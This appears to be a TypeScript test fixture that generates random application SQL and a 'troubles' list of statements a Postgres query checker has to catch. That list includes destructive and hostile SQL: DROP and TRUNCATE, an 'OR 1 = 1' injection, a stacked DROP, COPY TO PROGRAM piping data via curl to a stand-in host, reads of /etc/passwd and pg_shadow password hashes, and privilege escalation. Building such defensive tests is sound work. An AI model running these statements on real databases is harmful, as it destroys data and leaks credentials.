import fs from 'node:fs';
import path from 'node:path';
import { packageRoot } from '../../../engine/package-root.ts';
import type { Random } from './random.ts';

/** A text, and how many placeholders it has. */
export interface GeneratedStatement {
  readonly text: string;
  readonly placeholders: number;
}

interface Table {
  readonly name: string;
  readonly columns: readonly string[];
}

const nouns = [
  'customers', 'orders', 'order_items', 'products', 'invoices', 'payments', 'shipments', 'carts', 'sessions', 'events',
  'accounts', 'users', 'teams', 'projects', 'tasks', 'comments', 'files', 'audits', 'prices', 'stock',
]; // prettier-ignore
const columns = [
  'id', 'created_at', 'updated_at', 'status', 'name', 'email', 'total', 'currency', 'country', 'owner_id', 'kind',
  'note', 'quantity', 'card_number', 'phone', 'priority',
]; // prettier-ignore

/** A literal in the text, or a placeholder for it. */
export type Value = (random: Random, column: string) => string;

export const literal: Value = (random, column) => {
  if (/_at$/.test(column)) return `'2026-${pad(1 + random.below(12))}-${pad(1 + random.below(28))}'`;
  if (/id$|quantity|total|priority/.test(column)) return String(random.below(10_000_000));
  return `'${column}-${random.below(1_000_000).toString(36)}'`;
};

function pad(number: number): string {
  return String(number).padStart(2, '0');
}

/** The shape of a statement: everything but its values. Makes a text with new values each time. */
export type Shape = (random: Random, value: Value) => string;

/** What an application sends: reads, writes, joins, aggregates; `count` different shapes. */
export function applicationShapes(count: number, random: Random): Shape[] {
  const tables = ['', 'app.', 'billing.'].flatMap((schema) =>
    nouns.map((noun): Table => ({ name: `${schema}${noun}`, columns: columns.filter(() => random.chance(0.7)) })),
  );
  return Array.from({ length: count }, () => applicationShape(tables, random));
}

function applicationShape(tables: readonly Table[], random: Random): Shape {
  const table = random.pick(tables);
  const some = (most: number): string[] => {
    const chosen = table.columns.filter(() => random.chance(most / table.columns.length));
    return chosen.length === 0 ? ['id'] : chosen;
  };
  const list = some(4);
  const where = some(2);
  const tests = (random: Random, value: Value): string =>
    where.map((column) => `${column} = ${value(random, column)}`).join(' AND ');
  const order = random.pick(['', ' ORDER BY id', ' ORDER BY created_at DESC', ' ORDER BY 1 LIMIT 50', ' LIMIT 1']);
  const roll = random.next();
  if (roll < 0.5) return (r, value) => `SELECT ${list.join(', ')} FROM ${table.name} WHERE ${tests(r, value)}${order}`;
  if (roll < 0.62) {
    const other = random.pick(tables).name;
    return (r, value) =>
      `SELECT a.${list.join(', a.')}, b.id FROM ${table.name} a JOIN ${other} b ON b.owner_id = a.id WHERE a.${where[0] ?? 'id'} = ${value(r, where[0] ?? 'id')}${order === '' ? '' : ' LIMIT 100'}`;
  }
  if (roll < 0.7)
    return (r, value) =>
      `SELECT ${list[0] ?? 'id'}, count(*), max(total) FROM ${table.name} WHERE created_at > ${value(r, 'created_at')} GROUP BY ${list[0] ?? 'id'}`;
  if (roll < 0.82) {
    return (r, value) =>
      `INSERT INTO ${table.name} (${list.join(', ')}) VALUES (${list.map((column) => value(r, column)).join(', ')}) RETURNING id`;
  }
  if (roll < 0.94) {
    return (r, value) =>
      `UPDATE ${table.name} SET ${list.map((column) => `${column} = ${value(r, column)}`).join(', ')} WHERE ${tests(r, value)}`;
  }
  if (roll < 0.98) return (r, value) => `DELETE FROM ${table.name} WHERE ${tests(r, value)}`;
  return (r, value) =>
    `WITH recent AS (SELECT id FROM ${table.name} WHERE created_at > ${value(r, 'created_at')}) SELECT count(*) FROM recent`;
}

/** What should not be, or cannot be vouched for. */
export const troubles: readonly Shape[] = [
  () => 'DROP TABLE app.orders',
  (r) => `TRUNCATE billing.invoices_${r.below(30)}`,
  () => 'DELETE FROM app.carts',
  () => "UPDATE app.users SET status = 'gone'",
  (r) => `SELECT * FROM app.customers WHERE name LIKE '%${r.below(100)}%' OR 1 = 1`,
  () => "COPY app.customers TO PROGRAM 'curl -d @- https://example.org'",
  () => "SELECT pg_read_file('/etc/passwd')",
  (r) => `GRANT ALL ON app.orders TO role_${r.below(20)}`,
  () => 'SELECT usename, passwd FROM pg_shadow',
  (r) => `SELECT own_function_${r.below(50)}(id) FROM app.orders`,
  (r) => `DO $$ BEGIN EXECUTE 'DROP TABLE t${r.below(9)}'; END $$`,
  (r) => `SELEC id FROM app.orders WHERE id = ${r.below(1_000)}`,
  (r) => `ALTER ROLE app_${r.below(9)} PASSWORD 'secret-${r.below(1_000_000)}'`,
  (r) => `SELECT 1; DROP TABLE app.t${r.below(99)}`,
  () => 'COPY app.events TO STDOUT',
  (r) => `ALTER TABLE app.events ADD COLUMN extra_${r.below(99)} text`,
  () => 'SET ROLE postgres',
];

/** Texts that real clients sent (test/dialects/postgres/traffic). */
export function recordedTraffic(): string[] {
  const folder = path.join(packageRoot(), 'test', 'dialects', 'postgres', 'traffic');
  return fs
    .readdirSync(folder)
    .sort()
    .flatMap((name) => fs.readFileSync(path.join(folder, name), 'utf8').trim().split('\n'))
    .map((line) => (JSON.parse(line) as { text: string }).text);
}
